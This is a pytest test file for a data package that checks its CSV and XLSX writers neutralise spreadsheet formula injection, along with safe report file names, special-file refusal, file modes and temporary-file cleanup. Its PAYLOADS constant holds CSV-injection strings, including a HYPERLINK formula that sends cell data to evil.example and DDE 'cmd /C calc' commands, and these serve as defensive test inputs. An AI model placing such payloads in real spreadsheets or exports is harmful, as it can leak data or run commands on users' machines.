"""Every file the package writes: no spreadsheet formula in any CSV or XLSX cell, report
names unique per run, special files never replaced, the umask and an existing file's mode
honoured, and no temporary file left behind (docs/contracts.md, "Conventions")."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import sys
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import outcomes
from outcomes import Areas, Catalogue, Dataset, Results
from outcomes._cli import main
from outcomes.catalogue import DataItem
from outcomes.core._io import (
    SLUG_MAX_BYTES,
    STALE_TEMPORARY_AGE,
    TEMPORARY_MARK,
    TEXT_MARKER,
    csv_text,
    restore_text,
    sheet_cell,
    slug,
    write_bytes_atomic,
    write_csv,
    write_text_atomic,
)
from outcomes.errors import OutputError
from outcomes.national import learn_from, overview, pair_areas, scrutiny
from outcomes.report import write_reports
from outcomes.returns import burden, collate, write_template
from tests.strategies import area_names

PERIOD = "2024-25"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
#: Text a spreadsheet runs as a formula, one per trigger character. Readers trim cells, so
#: the tab and carriage-return ones reach results as the formula after them.
PAYLOADS = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
)
ORDINARY = ("Angus", "Fife", "Moray", "Perth")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def executable(value: object) -> bool:
    """Whether a spreadsheet would run this cell's text as a formula."""
    return (
        isinstance(value, str) and value.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(value)
    )


def csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")  # no newline translation: CR stays CR
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(path: Path) -> list[object]:
    """Every cell's value, and ``"=<formula>"`` for a cell openpyxl reads as a formula."""
    workbook = openpyxl.load_workbook(path)
    return [
        f"={cell.value}" if cell.data_type == "f" else cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def executable_cells(paths: Iterable[Path]) -> list[tuple[str, object]]:
    found = []
    for path in paths:
        cells = xlsx_cells(path) if path.suffix == ".xlsx" else csv_cells(path)
        found += [(path.name, cell) for cell in cells if executable(cell)]
    return found


# --- inputs where every text a user gives is a formula ---------------------------------------


def payload_catalogue() -> Catalogue:
    indicator = outcomes.Indicator(
        id="P1", title=HYPERLINK, measure="proportion", numerator="supported",
        denominator="assessed", multiplier=100, unit="=unit", polarity="higher_is_better",
        branch="community_care", recommendations=[11], outcome_for=["people_who_use_services"],
        period_type="financial_year", source="-source",
    )  # fmt: skip
    items = {
        name: DataItem(
            name=name, title=f"+{name}", unit="@people", kind="count", description="=guidance"
        )
        for name in ("supported", "assessed")
    }
    return Catalogue(indicators=[indicator], items=items)


def panel(areas: Iterable[str]) -> Dataset:
    """Three years of one proportion; areas differ and some worsen, so that every table
    (learning, scrutiny, funnel) has rows."""
    rows = []
    for k, area in enumerate(areas):
        for j, period in enumerate(("2022-23", "2023-24", PERIOD)):
            supported = 400 + 7 * k + 20 * j * (k % 3 - 1)
            rows += [(area, period, "supported", float(supported), ""),
                     (area, period, "assessed", 1000.0, "")]  # fmt: skip
    return Dataset.from_frame(
        pd.DataFrame(rows, columns=["area", "period", "item", "value", "flag"])
    )


@pytest.fixture(scope="module")
def inputs() -> tuple[Catalogue, Dataset, Areas, Results]:
    names = [*PAYLOADS, *ORDINARY]
    data = panel(names)
    stored = data.frame["area"].unique().tolist()  # as read: trimmed
    areas = Areas.from_frame(pd.DataFrame({
        "area": stored, "name": stored,
        "family_group": [HYPERLINK if k % 2 else "-group" for k in range(len(stored))],
    }))  # fmt: skip
    catalogue = payload_catalogue()
    return catalogue, data, areas, outcomes.compute(data, catalogue, areas)


def test_payload_areas_reach_the_results(
    inputs: tuple[Catalogue, Dataset, Areas, Results],
) -> None:
    *_, results = inputs
    assert {HYPERLINK, "=1+2", "=1+3"} <= set(results.frame["area"])


# --- every CSV and XLSX writer ----------------------------------------------------------------


def test_results_csv_has_no_formula(
    inputs: tuple[Catalogue, Dataset, Areas, Results], tmp_path: Path
) -> None:
    *_, results = inputs
    exact = results.to_csv(tmp_path / "exact.csv")
    published = results.published().to_csv(tmp_path / "results.csv")
    assert (tmp_path / "exact.csv").read_text() == exact
    assert (tmp_path / "results.csv").read_text() == published
    assert executable_cells([tmp_path / "exact.csv", tmp_path / "results.csv"]) == []
    rows = list(csv.DictReader(io.StringIO(published)))
    assert TEXT_MARKER + HYPERLINK in {row["area"] for row in rows}
    assert {restore_text(row["area"]) for row in rows} == set(results.frame["area"])


def test_results_csv_keeps_its_bytes_for_plain_data(tmp_path: Path) -> None:
    """The writer before this change (pandas, 12 significant digits) is the oracle."""
    data = panel(ORDINARY)
    results = outcomes.compute(data, payload_catalogue(), None).published()
    frame = results.frame.copy()
    for column in ("change_significant", "suppressed"):
        frame[column] = frame[column].map({True: "true", False: "false"}).fillna("")
    before = frame.to_csv(index=False, lineterminator="\n", float_format="%.12g")
    assert results.to_csv() == before
    results.to_csv(tmp_path / "results.csv")
    assert (tmp_path / "results.csv").read_bytes() == before.encode("utf-8")


#: Text that the writer before this change wrote correctly: no trigger or ' in front, and no
#: carriage return (which it left unquoted, see the test after the next).
_plain_text = st.text(st.characters(codec="utf-8", exclude_characters="\x00\r"), max_size=8).filter(
    lambda text: not text.startswith((*TRIGGERS, TEXT_MARKER))
)
_figures = st.one_of(st.floats(allow_nan=False, allow_infinity=False), st.just(float("nan")))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(_plain_text, _figures, st.integers(-(10**12), 10**12)), max_size=6))
def test_csv_text_with_a_float_format_is_pandas_for_plain_data(
    rows: list[tuple[str, float, int]],
) -> None:
    frame = pd.DataFrame(rows, columns=["area", "value", "rank"]).astype(
        {"area": object, "value": "float64", "rank": "int64"}
    )
    expected = frame.to_csv(index=False, lineterminator="\n", float_format="%.12g")
    assert csv_text(frame, float_format="%.12g") == expected


_any_text = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(PAYLOADS), _any_text), min_size=1, max_size=8))
def test_csv_text_never_writes_a_formula_and_readers_get_the_text_back(
    texts: list[str],
) -> None:
    frame = pd.DataFrame({"area": texts, "value": range(len(texts))}).astype({"area": object})
    reader = csv.reader(io.StringIO(csv_text(frame), newline=""))
    cells = [row[0] for row in reader][1:]
    assert not [cell for cell in cells if executable(cell)]
    # Known limit: text already written as ' plus a trigger reads back without its '.
    expected = [
        "" if text == "" else restore_text(text) if text.startswith(TEXT_MARKER) else text
        for text in texts
    ]
    assert [restore_text(cell) for cell in cells] == expected


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row(tmp_path: Path) -> None:
    """The csv module quotes only its own line terminator (\\n here): a bare CR went out
    unquoted, and every reader took it for a new row whose first cell is the formula."""
    frame = pd.DataFrame({"area": [f"Fife\r{HYPERLINK}", "Angus"], "value": [1.5, 2.0]})
    written = write_csv(tmp_path / "out.csv", frame.astype({"area": object}))[0]
    rows = list(csv.reader(io.StringIO(written.read_bytes().decode(), newline="")))
    assert rows == [["area", "value"], [f"Fife\r{HYPERLINK}", "1.5"], ["Angus", "2"]]
    assert executable_cells([written]) == []


# openpyxl refuses most control characters in a cell (IllegalCharacterError); sheet_cell
# leaves them as they are.
_sheet_text = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=12)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.sampled_from(PAYLOADS), _sheet_text, st.floats(), st.integers(),
                          st.booleans(), st.none()), min_size=1, max_size=20))  # fmt: skip
def test_sheet_cells_are_never_formulas(values: list[object]) -> None:
    workbook = openpyxl.Workbook()
    workbook.worksheets[0].append([sheet_cell(value) for value in values])
    buffer = io.BytesIO()
    workbook.save(buffer)
    reread = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    cells = [cell for row in reread.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f" or executable(cell.value)]


def test_overview_and_scrutiny_csvs_have_no_formula(
    inputs: tuple[Catalogue, Dataset, Areas, Results], tmp_path: Path
) -> None:
    catalogue, data, areas, results = inputs
    published = results.published()
    national = overview(published, PERIOD, areas=areas, burden=burden(data, catalogue))
    written = national.to_csv(tmp_path / "overview")
    for area in (HYPERLINK, "=1+2", "Fife"):
        written += scrutiny(published, area, PERIOD, areas=areas).to_csv(tmp_path / "scrutiny")
    assert len(written) == 13
    assert executable_cells(written) == []
    names = {path.name for path in written}
    assert "scrutiny-hyperlink-http-evil-example-x-a1-click-2024-25.csv" in names
    heat = csv_cells(tmp_path / "overview" / "heat.csv")
    assert TEXT_MARKER + HYPERLINK in heat


def test_pairs_csv_has_no_formula(
    inputs: tuple[Catalogue, Dataset, Areas, Results], tmp_path: Path
) -> None:
    *_, areas, _ = inputs
    pairing = pair_areas(areas, PERIOD)
    text = pairing.to_csv(tmp_path / "pairs.csv")
    assert (tmp_path / "pairs.csv").read_text() == text
    assert executable_cells([tmp_path / "pairs.csv"]) == []
    read = outcomes.national.read_pairs(tmp_path / "pairs.csv")
    assert set(read["area"]) == set(areas.names)


def test_learning_csv_has_no_formula(
    inputs: tuple[Catalogue, Dataset, Areas, Results], tmp_path: Path
) -> None:
    *_, areas, results = inputs
    written = []
    for k, area in enumerate(areas.names):
        suggestions = learn_from(results.published(), area, PERIOD, areas=areas)
        suggestions.to_csv(tmp_path / f"learning-{k}.csv")
        written.append(tmp_path / f"learning-{k}.csv")
    cells = [cell for path in written for cell in csv_cells(path)]
    assert TEXT_MARKER + HYPERLINK in cells  # a payload area is suggested somewhere
    assert executable_cells(written) == []


def test_burden_csv_has_no_formula(
    inputs: tuple[Catalogue, Dataset, Areas, Results],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    _, data, *_ = inputs
    frame = data.frame.copy()
    frame.loc[frame["item"] == "assessed", "item"] = HYPERLINK  # an item no indicator uses
    write_csv(tmp_path / "data.csv", frame)
    code = main(["burden", "--data", str(tmp_path / "data.csv"), "--format", "csv",
                 "--out", str(tmp_path / "burden.csv"), "--quiet"])  # fmt: skip
    capsys.readouterr()
    assert code == 0
    assert TEXT_MARKER + HYPERLINK in csv_cells(tmp_path / "burden.csv")
    assert executable_cells([tmp_path / "burden.csv"]) == []


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_templates_have_no_formula(
    inputs: tuple[Catalogue, Dataset, Areas, Results], tmp_path: Path, suffix: str
) -> None:
    catalogue, data, *_ = inputs
    blank = write_template(tmp_path / f"blank.{suffix}", PAYLOADS, PERIOD, catalogue=catalogue)
    filled = write_template(tmp_path / f"filled.{suffix}", [HYPERLINK, "=1+2"], PERIOD,
                            catalogue=catalogue, data=data)  # fmt: skip
    assert executable_cells([blank, filled]) == []


def test_collated_dataset_and_sidecars_have_no_formula(
    inputs: tuple[Catalogue, Dataset, Areas, Results], tmp_path: Path
) -> None:
    catalogue, data, *_ = inputs
    returns = [
        write_template(
            tmp_path / "returns" / f"{k}.xlsx", area, PERIOD, catalogue=catalogue, data=data
        )
        for k, area in enumerate([HYPERLINK, "@SUM(1+9)*cmd|' /C calc'!A0", "Fife"])
    ]
    written = collate(returns, catalogue=catalogue).write(tmp_path / "data.csv")
    assert len(written) == 3
    assert executable_cells(written) == []
    assert outcomes.read_dataset(tmp_path / "data.csv").areas == sorted(
        [HYPERLINK, "@SUM(1+9)*cmd|' /C calc'!A0", "Fife"]
    )


# --- report file names --------------------------------------------------------------------


def test_reports_of_payload_areas_have_safe_names_and_escaped_text(
    inputs: tuple[Catalogue, Dataset, Areas, Results], tmp_path: Path
) -> None:
    *_, areas, results = inputs
    batch = write_reports(results, PERIOD, tmp_path / "reports", area_list=areas)
    assert batch.failed == {}
    files = sorted((tmp_path / "reports").iterdir())
    # Each area's html and md, and its data annex: html, csv, xlsx.
    assert len(files) == 5 * len(areas.names) == sum(map(len, batch.written.values()))
    assert all(not path.name.startswith((".", "-")) for path in files)
    for name in ("2024-25.html", "2024-25-data.html"):
        page = tmp_path / "reports" / f"hyperlink-http-evil-example-x-a1-click-{name}"
        assert HYPERLINK not in page.read_text()  # its quotes are escaped


@pytest.mark.parametrize(
    "clashing", [("FIFE", "fife!"), ("Fife", "FIFE", "fife!"), ("Côte", "cote")]
)
def test_a_slug_clash_stops_before_any_report_is_written(
    tmp_path: Path, clashing: tuple[str, ...]
) -> None:
    names = [*clashing, *ORDINARY[2:]]
    results = outcomes.compute(panel(names), payload_catalogue(), None)
    out = tmp_path / "reports"
    with pytest.raises(OutputError) as raised:
        write_reports(results, PERIOD, out, areas=names)
    assert not out.exists()
    message = str(raised.value)
    assert all(repr(area) in message for area in clashing)
    assert f"{slug(clashing[0])}-{PERIOD}.html" in message
    assert "nothing was written" in message


def test_report_all_stops_on_a_clash_at_the_command_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = ["FIFE", "fife!", "Angus"]
    frame = panel(names).frame.copy()
    frame.loc[frame["item"] == "supported", "item"] = "people_65_plus_personal_care_at_home"
    frame.loc[frame["item"] == "assessed", "item"] = "people_65_plus_long_term_care_needs"
    write_csv(tmp_path / "data.csv", frame)
    write_csv(tmp_path / "areas.csv", pd.DataFrame({"area": names, "name": names}))
    code = main(["report", "--data", str(tmp_path / "data.csv"), "--areas",
                 str(tmp_path / "areas.csv"), "--all", "--period", PERIOD,
                 "--out", str(tmp_path / "reports")])  # fmt: skip
    err = capsys.readouterr().err
    assert code == 1
    assert "'FIFE', 'fife!' would share fife-2024-25.html" in err
    assert "wrote" not in err
    assert not (tmp_path / "reports").exists()


def test_names_the_issue_found_colliding_are_distinct(tmp_path: Path) -> None:
    names = ["日本", "中国", "..", ".", "Ærø", "FIFE"]
    results = outcomes.compute(panel(names), payload_catalogue(), None)
    batch = write_reports(results, PERIOD, tmp_path, areas=names, formats=["md"])
    assert batch.failed == {}
    written = sorted(path.name for path in tmp_path.iterdir() if path.suffix == ".md")
    assert len(written) == len(names)
    assert len(list(tmp_path.iterdir())) == 4 * len(names)  # each with its annex
    assert "日本-2024-25.md" in written
    assert "中国-2024-25.md" in written


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_a_slug_is_always_a_plain_file_name(name: str) -> None:
    made = slug(name)
    assert made not in {"", ".", ".."}
    assert not made.startswith((".", "-"))
    assert not made.endswith("-")
    assert not set(made) & {"/", "\\", "\x00", ":", " "}
    assert all(c.isprintable() for c in made)
    assert len(made.encode("utf-8")) <= SLUG_MAX_BYTES
    assert slug(name) == made


@given(area_names)
def test_a_slug_of_ascii_words_is_as_the_contract_says(name: str) -> None:
    assert slug(name) == "-".join(name.lower().split())


# --- special files, unwritable places ------------------------------------------------------


def _symlink(path: Path) -> Callable[[], bool]:
    target = path.parent / "elsewhere.txt"
    target.write_text("keep me")
    path.symlink_to(target)
    return lambda: path.is_symlink() and target.read_text() == "keep me"


def _fifo(path: Path) -> Callable[[], bool]:
    os.mkfifo(path)
    return lambda: stat.S_ISFIFO(os.lstat(path).st_mode)


def _folder(path: Path) -> Callable[[], bool]:
    (path / "inside").mkdir(parents=True)
    return (path / "inside").is_dir


SPECIAL = {"symbolic link": _symlink, "named pipe": _fifo, "folder": _folder}


def _writers(
    inputs: tuple[Catalogue, Dataset, Areas, Results],
) -> dict[str, Callable[[Path], object]]:
    *_, areas, results = inputs
    return {
        "atomic": lambda path: write_text_atomic(path, "text"),
        "results": results.to_csv,
        "pairs": lambda path: pair_areas(areas, PERIOD).to_csv(path),
    }


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs POSIX special files")
@pytest.mark.parametrize("kind", list(SPECIAL))
@pytest.mark.parametrize("writer", ["atomic", "results", "pairs"])
def test_a_special_file_at_the_output_path_is_refused_and_left_alone(
    inputs: tuple[Catalogue, Dataset, Areas, Results], tmp_path: Path, kind: str, writer: str
) -> None:
    path = tmp_path / "out.csv"
    untouched = SPECIAL[kind](path)
    with pytest.raises(OutputError, match=f"{re.escape(str(path))}: it is a {kind}"):
        _writers(inputs)[writer](path)
    assert untouched()
    assert not [p for p in tmp_path.iterdir() if TEMPORARY_MARK in p.name]


def test_a_symlinked_folder_above_the_file_is_followed(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "linked").symlink_to(tmp_path / "real")
    write_text_atomic(tmp_path / "linked" / "out.csv", "a\n")
    assert (tmp_path / "real" / "out.csv").read_text() == "a\n"


def test_a_file_in_place_of_a_folder_is_an_output_error(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(OutputError, match="cannot write"):
        write_bytes_atomic(tmp_path / "file" / "out.csv", b"a")


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() == 0,
                    reason="permissions do not stop root")  # fmt: skip
def test_a_read_only_folder_is_an_output_error(tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(OutputError, match="Permission denied"):
            write_text_atomic(folder / "out.csv", "a")
    finally:
        folder.chmod(0o755)


# --- permissions --------------------------------------------------------------------------


@pytest.fixture
def umask() -> Iterator[Callable[[int], int]]:
    """``os.umask`` for the test, the process's umask restored afterwards."""
    previous = os.umask(0o022)
    try:
        yield os.umask
    finally:
        os.umask(previous)


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
@pytest.mark.parametrize(("mask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_a_new_file_has_the_mode_the_umask_gives(
    inputs: tuple[Catalogue, Dataset, Areas, Results],
    tmp_path: Path,
    umask: Callable[[int], int],
    mask: int,
    mode: int,
) -> None:
    umask(mask)
    paths = [write_text_atomic(tmp_path / "a.txt", "a"), tmp_path / "results.csv"]
    inputs[3].to_csv(paths[1])
    assert [stat.S_IMODE(path.stat().st_mode) for path in paths] == [mode, mode]


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
@pytest.mark.parametrize("kept", [0o644, 0o640, 0o600, 0o444])
def test_a_replaced_file_keeps_its_mode(
    tmp_path: Path, umask: Callable[[int], int], kept: int
) -> None:
    path = tmp_path / "report.csv"
    path.write_text("old")
    path.chmod(kept)
    umask(0o077)
    write_text_atomic(path, "new")
    assert path.read_text() == "new"
    assert stat.S_IMODE(path.stat().st_mode) == kept


# --- temporary files ----------------------------------------------------------------------


def _temporaries(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if TEMPORARY_MARK in p.name)


@pytest.mark.parametrize("failure", [OSError(28, "No space left on device"), KeyboardInterrupt()])
@pytest.mark.parametrize("where", ["rename", "write"])
def test_a_failed_write_leaves_no_temporary_file_and_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, failure: BaseException, where: str
) -> None:
    path = tmp_path / "results.csv"
    path.write_text("old")
    seen: list[str] = []

    def fail_rename(source: str | os.PathLike[str], target: str | os.PathLike[str]) -> None:
        seen.append(Path(source).name)
        raise failure

    class FailingStream(io.FileIO):
        def write(self, data: object) -> int:
            seen.extend(_temporaries(tmp_path))
            raise failure

    def failing_fdopen(handle: int, *args: object, **kwargs: object) -> io.FileIO:
        return FailingStream(handle, "wb")

    if where == "rename":
        monkeypatch.setattr(os, "replace", fail_rename)
    else:
        monkeypatch.setattr(os, "fdopen", failing_fdopen)
    expected = OutputError if isinstance(failure, OSError) else KeyboardInterrupt
    with pytest.raises(expected):
        write_csv(path, pd.DataFrame({"area": [HYPERLINK]}))
    monkeypatch.undo()
    assert path.read_text() == "old"
    assert _temporaries(tmp_path) == []
    assert len(seen) == 1
    assert re.fullmatch(r"\.results\.csv\.outcomes-tmp-[0-9a-f]{8}", seen[0])


def test_stale_temporary_files_of_the_target_are_removed_on_the_next_write(
    tmp_path: Path,
) -> None:
    path = tmp_path / "data.csv"
    stale = tmp_path / f".data.csv{TEMPORARY_MARK}0123abcd"
    young = tmp_path / f".data.csv{TEMPORARY_MARK}4567cdef"
    other = tmp_path / f".data.csv.sources.csv{TEMPORARY_MARK}89abcdef"
    unlike = tmp_path / f".data.csv{TEMPORARY_MARK}not-ours"
    for leftover in (stale, young, other, unlike):
        leftover.write_text("partial")
    old = time.time() - STALE_TEMPORARY_AGE - 60
    for leftover in (stale, other, unlike):
        os.utime(leftover, (old, old))
    write_text_atomic(path, "area\n")
    assert not stale.exists()
    assert young.exists()
    assert other.exists()
    assert unlike.exists()


def test_a_large_file_is_handed_to_the_disk_as_it_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every WRITEBACK_BYTES written, the system is asked to start writing them
    (posix_fadvise, called for real where there is one); the file is the chunks, whole and
    in order."""
    import outcomes.core._io as io_module

    asked: list[tuple[int, int]] = []
    real = io_module._start_writeback

    def start_writeback(handle: int, offset: int, length: int) -> None:
        asked.append((offset, length))
        real(handle, offset, length)

    monkeypatch.setattr(io_module, "WRITEBACK_BYTES", 10)
    monkeypatch.setattr(io_module, "_start_writeback", start_writeback)
    chunks: list[bytes | memoryview] = [b"a" * 4, memoryview(b"b" * 7), b"c" * 12, b"d" * 3]
    path = io_module.write_chunks_atomic(tmp_path / "big.csv", iter(chunks))
    assert path.read_bytes() == b"".join(bytes(chunk) for chunk in chunks)
    assert asked == [(0, 11), (11, 12)]  # 4 + 7 bytes, then 12; the last 3 left as they are
